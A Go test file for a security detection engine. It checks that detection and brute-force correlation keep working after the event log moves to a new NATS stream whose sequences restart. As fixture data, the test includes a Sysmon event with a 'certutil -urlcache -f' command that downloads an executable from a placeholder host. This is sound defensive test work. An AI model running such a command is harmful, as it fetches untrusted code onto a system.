package detect

import (
	"testing"
	"time"

	"github.com/kubu-gov/kubu/internal/store"
	"github.com/kubu-gov/kubu/internal/store/storetest"
)

// TestNewStreamKeepsDetecting moves the event log to a new stream (another
// NATS: a fresh embedded server), whose sequences start over at 1. Its
// events must not be taken for the old stream's events of the same
// sequence (their matches were dropped as duplicates), and the saved
// correlation position must not skip the new stream's first batches
// (issue 15 item 2).
func TestNewStreamKeepsDetecting(t *testing.T) {
	storetest.Engines(t, func(t *testing.T, db *store.DB) {
		e := newEnv(t, db, Options{LeaseTTL: 3 * time.Second})
		e.addRule(t, ruleBruteForce)
		e.addRule(t, ruleNewTechnique)
		e.start(t)
		t0 := time.Now().UTC().Truncate(time.Millisecond)
		cert := map[string]any{"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Image": `C:\Windows\System32\certutil.exe`,
			"CommandLine": "certutil -urlcache -f http://x/a.exe"}
		quiet := map[string]any{"EventID": 4624, "Channel": "Security"}
		e.publish(t, "MOH", ev("MOH", "ws1", t0, cert)) // seq 1, event 0
		for i := range 4 {
			e.publish(t, "MOH", ev("MOH", "ws1", t0.Add(time.Duration(i)*time.Second), quiet))
		}
		waitFor(t, "the old stream's correlation position", func() bool {
			return count(t, db, `SELECT COALESCE(MAX(last_seq), 0) FROM correlation_state`) == 5
		})
		certEvents := func() int {
			return count(t, db, `SELECT count(*) FROM alert_events WHERE rule_id = $1`, "7f1f0d4e-0b6a-4f38-9d5c-0000000000c1")
		}
		waitFor(t, "the old stream's match", func() bool { return certEvents() == 1 })
		oldID := e.log.StreamID()

		// The log moves to a new stream; detection restarts on it.
		e.stop()
		e.log = openLog(t, t.TempDir())
		if e.log.StreamID() == "" || e.log.StreamID() == oldID {
			t.Fatalf("new stream id %q, old %q", e.log.StreamID(), oldID)
		}
		e.restart(t)
		t1 := t0.Add(time.Minute)
		if seq := e.publish(t, "MOH", ev("MOH", "ws1", t1, cert), ev("MOH", "dc01", t1, failedLogon("admin"))); seq != 1 {
			t.Fatalf("the new stream starts at %d", seq)
		}
		e.publish(t, "MOH", ev("MOH", "dc01", t1.Add(time.Second), failedLogon("admin")))
		e.publish(t, "MOH", ev("MOH", "dc01", t1.Add(2*time.Second), failedLogon("admin")))
		waitFor(t, "the new stream's certutil match (same sequence and index as the old one's)", func() bool { return certEvents() == 2 })
		waitFor(t, "the correlation over the new stream's first three batches", func() bool {
			return len(e.alerts(t, AlertFilter{RuleID: "7f1f0d4e-0b6a-4f38-9d5c-0000000000a2"})) == 1
		})
		if n := count(t, db, `SELECT count(*) FROM correlation_state WHERE last_seq = 3 AND stream_id = $1`, e.log.StreamID()); n != 1 {
			t.Fatalf("correlation position not bound to the new stream at seq 3")
		}
	})
}
